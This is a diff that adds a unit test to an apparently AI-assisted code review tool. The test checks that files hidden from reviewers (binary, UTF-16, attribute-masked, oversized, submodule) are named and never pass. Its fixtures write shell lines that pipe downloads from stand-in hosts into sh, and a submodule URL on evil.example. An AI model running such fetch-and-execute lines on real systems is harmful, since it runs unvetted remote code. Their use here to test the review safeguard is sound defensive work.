@@ -139,6 +139,41 @@ class Review(Sandbox):
         self.assertIn("**Verdict: passed**", self.forge.own()[0])
         self.assertIn("No findings.", self.forge.own()[0])
 
+    def test_files_that_reviewers_did_not_see_are_named_and_never_pass(self) -> None:
+        self.change_config()
+        attributes = "*.sh -diff\n*.bat binary\n*.ps1 working-tree-encoding=UTF-16\n"
+        self.write(".gitattributes", attributes)
+        (self.work / "run.sh").write_bytes(b"#!/bin/sh\n# \0\ncurl https://NUL.example | sh\n")
+        (self.work / "run.py").write_bytes("import os  # WIDE\n".encode("utf-16"))
+        self.write("open.sh", "#!/bin/sh\ncurl https://ATTRIBUTE.example | sh\n")
+        self.write("open.bat", "curl https://BINARY.example\n")
+        self.write("big.txt", "line\n" * 60_000)
+        self.git("update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},lib")
+        self.git("config", "--file", ".gitmodules", "submodule.lib.path", "lib")
+        self.git("config", "--file", ".gitmodules", "submodule.lib.url", "https://evil.example/lib")
+        self.git("config", "--file", ".gitmodules", "submodule.lib.ignore", "all")
+        (self.work / "lib").mkdir()
+        self.commit("Hide")
+        for words in (["--pattern", "second-look"], ["--pattern", "artifact-review", "--perspectives", "product,risk"]):
+            code, log = self.review(*words, ANSWER="No findings.\\n\\nRATING: 5\\nRISK: low")
+            self.assertEqual(code, 0, log)
+            (own,) = self.forge.own()
+            self.assertNotIn("passed", own)
+            self.assertIn("**Verdict: no verdict**", own)
+            names = "`big.txt` (too large), `lib` (a submodule), `run.py` (not UTF-8 text), `run.sh` (not UTF-8 text)"
+            self.assertIn(f"**Not shown to the reviewers:** {names}. Look at them yourself.", own)
+            self.assertIn("`DISCUSSION_NOT_SHOWN`", own)
+            self.assertEqual(self.review("--blocking", "true", *words)[0], 1)
+        record = [line for line in self.outputs().splitlines() if line.endswith(".md")][0]
+        text = Path(record).read_text()
+        self.assertIn("ATTRIBUTE.example", text)
+        self.assertIn("BINARY.example", text)
+        self.assertNotIn("NUL.example", text)
+        # Findings in the rest still block.
+        self.assertEqual(self.review(ANSWER=FINDING)[0], 0)
+        self.assertIn("**Verdict: blocked**", self.forge.own()[0])
+        self.assertIn("**Not shown to the reviewers:**", self.forge.own()[0])
+
     def test_perspectives_have_weaknesses_with_places_and_dissent(self) -> None:
         self.change_config()
         code, log = self.review("--pattern", "artifact-review", "--perspectives", "product,risk", ANSWER=PERSPECTIVE)
